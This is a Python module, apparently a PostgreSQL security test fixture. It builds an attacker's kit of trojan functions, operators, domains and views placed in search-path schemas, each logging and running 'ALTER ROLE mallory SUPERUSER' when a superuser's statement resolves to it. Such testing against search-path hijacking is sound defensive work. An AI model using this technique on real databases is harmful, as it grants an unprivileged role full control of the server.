"""The attacker's kit: whoever may create in a database makes a trap of everything that a superuser's statement could name there.

An overload of every function and operator with the types of each call, in the schemas that a careless search path looks into
first; domains and views in place of types and catalogs. Each says in the server's log that it ran (on a standby too, and whatever
becomes of the transaction), and tries to make the attacker a superuser.
"""

import re
from collections.abc import Iterable, Iterator
from typing import Any, LiteralString, Self

import psycopg
from psycopg import sql

RAN = "LOG:  the trap ran: "
"""In the log; what was run to make a trap may be there too."""
OPTIONS = (
    "-c search_path=pg_catalog -c local_preload_libraries= -c role=none -c default_transaction_read_only=off "
    "-c statement_timeout=0 -c transaction_timeout=0 -c lock_timeout=0 -c idle_session_timeout=0 "
    "-c max_parallel_workers_per_gather=0 -c exit_on_error=off"
)
"""Against one's own traps and settings."""
OF_OWNER = ("evil", "public")
"""Schemas for a search path that the owner of a database sets, and for one that somebody else may set."""
OF_GUEST = ("postgres", "public")
"""In the default search path: that of the superuser's name comes first."""
TYPES = ("text", "name", "oid", "integer", "bigint", "boolean", '"char"', "text[]", "pg_lsn")
"""In place of an argument of any type, and on both sides of an operator, where one is a literal."""
FUNCTIONS: LiteralString = (
    "SELECT proname, pg_get_function_arguments(p.oid), pg_get_function_result(p.oid), proretset FROM pg_proc AS p "
    "WHERE prokind <> 'p' AND {} AND NOT EXISTS (SELECT FROM unnest(proargtypes::oid[] || prorettype) AS one "
    "JOIN pg_type AS t ON t.oid = one WHERE typtype = 'p' AND typname !~ '^any' AND typname NOT IN ('record', 'void'))"
)
"""Without those that only C can have, and that no statement calls by name."""
UNCALLED = {"void_send", "pg_event_trigger_ddl_commands"}
"""The same."""
OF_POSTGRESQL: LiteralString = "pronamespace = 'pg_catalog'::regnamespace"
OF_PG_TDE: LiteralString = (
    "EXISTS (SELECT FROM pg_depend JOIN pg_extension AS e ON refobjid = e.oid "
    "WHERE objid = p.oid AND extname = 'pg_tde' AND deptype = 'e')"
)
OPERATORS: LiteralString = (
    "SELECT oprname, format_type(oprleft, NULL), format_type(oprright, NULL), format_type(oprresult, NULL) FROM pg_operator "
    "WHERE oprleft <> 0"
)
DATA_TYPES: LiteralString = "SELECT typname FROM pg_type WHERE typtype = 'b' AND typelem = 0"
CATALOGS: LiteralString = "SELECT relname FROM pg_class WHERE relkind IN ('r', 'v') AND relname ~ '^pg_'"
EACH: LiteralString = (
    "SET check_function_bodies = off; DO $each$ DECLARE one text; BEGIN FOREACH one IN ARRAY {}::text[] LOOP BEGIN EXECUTE one; "
    "EXCEPTION WHEN OTHERS THEN NULL; END; END LOOP; END $each$"
)
"""Run what can be run of many statements: not all that is PostgreSQL's can be imitated, and some is there already."""
PARAMETERS: LiteralString = (
    "SELECT name, vartype, boot_val, greatest(min_val::float8, 1), array_remove(enumvals, boot_val) FROM pg_settings "
    "WHERE context = 'user' AND name NOT IN ('transaction_isolation', 'transaction_deferrable', 'vacuum_buffer_usage_limit') "
    "AND coalesce(cardinality(enumvals), 2) > 1"
)
TEXTS = {
    "local_preload_libraries": "nosuch",
    "client_encoding": "LATIN1",
    "createrole_self_grant": "set, inherit",
    "datestyle": "SQL, DMY",
    "default_tablespace": "pg_default",
    "restrict_nonsystem_relation_kind": "view, foreign-table",
    "timezone": "Asia/Kathmandu",
}
"""Parameters that can be set to any text."""
SEARCH_PATH = 'evil, "$user", public, pg_catalog'
HIDDEN = {"role": "mallory", "session_authorization": "mallory", "seed": "1"}
"""Parameters that pg_settings does not show."""
GRANTS = (
    "CREATE TABLE evil.mine (a int)",
    "GRANT SELECT, UPDATE (a) ON evil.mine TO replicator WITH GRANT OPTION",
    "CREATE POLICY theirs ON evil.mine TO replicator USING (true)",
    "ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO replicator",
    "GRANT ALL ON SCHEMA evil TO replicator",
    "GRANT ALL ON FUNCTION evil.sprung TO replicator",
    "GRANT ALL ON DOMAIN evil.text TO replicator",
    "SELECT lo_create(424242)",
    "GRANT ALL ON LARGE OBJECT 424242 TO replicator",
)
"""What keeps PostgreSQL from dropping a role."""


class Attacker:
    """A role without any attribute, in one database of a server; `connection` is a superuser's."""

    def __init__(self, connection: psycopg.Connection[Any]) -> None:
        self._connection = connection

    def __enter__(self) -> Self:
        return self

    def __exit__(self, *_: object) -> None:
        self._connection.close()

    def rows(self, query: str | sql.Composable) -> list[Any]:
        """As the superuser: what an attacker reads in a manual."""
        cursor = self._connection.execute(query.encode() if isinstance(query, str) else query)  # type: ignore[arg-type]
        return cursor.fetchall() if cursor.description else []

    def does(self, *statements: str | sql.Composable) -> None:
        """As the attacker. (Not by SET ROLE: what is run in the superuser's name would pass for his.)"""
        self.rows("SET SESSION AUTHORIZATION mallory")
        try:
            for statement in statements:
                self.rows(statement)
        finally:
            self.rows("RESET SESSION AUTHORIZATION")

    def owns(self, database: str) -> None:
        """What the owner of a database does to the superuser who comes into it."""
        self.does("CREATE SCHEMA evil")
        self.plants(*OF_OWNER)
        self.bends(database)

    def visits(self) -> None:
        """What somebody does who may just create things in the session's database."""
        self.does("CREATE SCHEMA postgres")
        self.plants(*OF_GUEST)

    def plants(self, *schemas: str) -> None:
        """Traps of all that is PostgreSQL's."""
        functions = self.rows(sql.SQL(FUNCTIONS).format(sql.SQL(OF_POSTGRESQL)))
        operators, types, catalogs = map(self.rows, (OPERATORS, DATA_TYPES, CATALOGS))
        for schema in schemas:
            others = [*_operators(schema, operators), *_names(schema, types, catalogs)]
            self._each(schema, functions, others)

    def plants_pg_tde(self, *schemas: str) -> None:
        """Traps of the extension's functions; where it has them itself, of what is called like them."""
        functions = self.rows(sql.SQL(FUNCTIONS).format(sql.SQL(OF_PG_TDE)))
        assert functions
        for schema in schemas:
            self._each(schema, functions)

    def bends(self, database: str) -> None:
        """Set everything that an owner may set for all sessions in his database, to what hinders most."""
        values = dict(HIDDEN)
        for name, kind, default, least, others in self.rows(PARAMETERS):
            flipped = "off" if default == "on" else "on"
            value = {"bool": flipped, "enum": others and others[0], "string": TEXTS.get(name.lower())}.get(kind, least)
            values |= {name: value} if value is not None else {}
        query = sql.SQL("ALTER DATABASE {} SET {} = {}")
        self.does(query.format(sql.Identifier(database), sql.Identifier("search_path"), sql.SQL(SEARCH_PATH)))
        for name, value in values.items():
            self.does(query.format(sql.Identifier(database), sql.Identifier(name), sql.Literal(value)))

    def _each(self, schema: str, functions: list[Any], statements: Iterable[str] = ()) -> None:
        body = (
            "BEGIN RAISE LOG 'the trap ran: % as %', what, current_user; ALTER ROLE mallory SUPERUSER; RETURN true; "
            "EXCEPTION WHEN OTHERS THEN RETURN true; END"
        )
        sprung = _function(schema, "sprung", "what pg_catalog.text", "pg_catalog.bool", body)
        self.does(sql.SQL(EACH).format(sql.Literal([sprung, *_functions(schema, functions), *statements])))
        query = sql.SQL("SELECT proname FROM pg_proc WHERE pronamespace = {}::regnamespace")
        made = {name for (name,) in self.rows(query.format(sql.Literal(schema)))}
        assert {name for name, *_ in functions} - made <= UNCALLED, "no trap was made of these"


def _function(schema: str, name: str, arguments: str, result: str, body: str) -> str:
    head = f"CREATE FUNCTION {_quoted(schema)}.{_quoted(name)}({arguments}) RETURNS {result}"
    return f"{head} LANGUAGE plpgsql AS $body${body}$body$"


def _functions(schema: str, rows: Iterable[tuple[str, str, str, bool]]) -> Iterator[str]:
    for name, arguments, result, returns_set in rows:
        for made, gives in {*_variants(arguments, result)}:
            nothing = returns_set or re.search(r"\bOUT\b", made) or gives == "void"
            yield _function(schema, name, made, gives, _trap(schema, name, "" if nothing else "NULL"))


def _variants(arguments: str, result: str) -> Iterator[tuple[str, str]]:
    """What calls of a function look like: of a variable number of arguments, of any type, with literals of unknown type."""
    given = [re.sub(r"VARIADIC [^,]*", ", ".join(["text"] * number), arguments) for number in range(1, 6)]
    for one in {re.sub(r",? ?ORDER BY", ",", made).lstrip(", ") for made in given}:
        yield one, result
        for other in TYPES:
            yield _of(other, one), _of(other, result)
        for other in ("varchar", "name"):
            yield re.sub(r"\btext\b", other, one), result


def _of(other: str, text: str) -> str:
    """With `other` for any type."""
    text = re.sub(r"\bany(compatible)?array\b", f"{other}[]".replace("[][]", "[]"), text)
    return re.sub(r'"any"|\bany(compatible|element|nonarray|compatiblenonarray)\b', other, text)


def _operators(schema: str, rows: Iterable[tuple[str, str, str, str]]) -> Iterator[str]:
    known = [(name, _of("text", left), _of("text", right), _of("text", result)) for name, left, right, result in rows]
    alike = {(name, one, one, "boolean") for name, *_ in known for one in TYPES}
    for number, (name, left, right, result) in enumerate([*known, *alike]):
        yield _function(schema, f"trap_{number}", f"{left}, {right}", result, _trap(schema, name, "NULL"))
        sides = f"LEFTARG = {left}, RIGHTARG = {right}"
        yield f"CREATE OPERATOR {_quoted(schema)}.{name} (FUNCTION = {_quoted(schema)}.trap_{number}, {sides})"


def _names(schema: str, types: Iterable[tuple[str]], catalogs: Iterable[tuple[str]]) -> Iterator[str]:
    sprung = f"{_quoted(schema)}.sprung"
    for (name,) in types:
        check = f"CHECK ({sprung}(VALUE::pg_catalog.text))"
        yield f"CREATE DOMAIN {_quoted(schema)}.{_quoted(name)} AS pg_catalog.{_quoted(name)} {check}"
    for (name,) in catalogs:
        yield f"CREATE VIEW {_quoted(schema)}.{name} AS SELECT * FROM pg_catalog.{name} WHERE {sprung}('a catalog')"


def _trap(schema: str, name: str, returns: str) -> str:
    return f"BEGIN PERFORM {_quoted(schema)}.sprung('{name}'); RETURN {returns}; END"


def _quoted(name: str) -> str:
    return sql.Identifier(name).as_string()
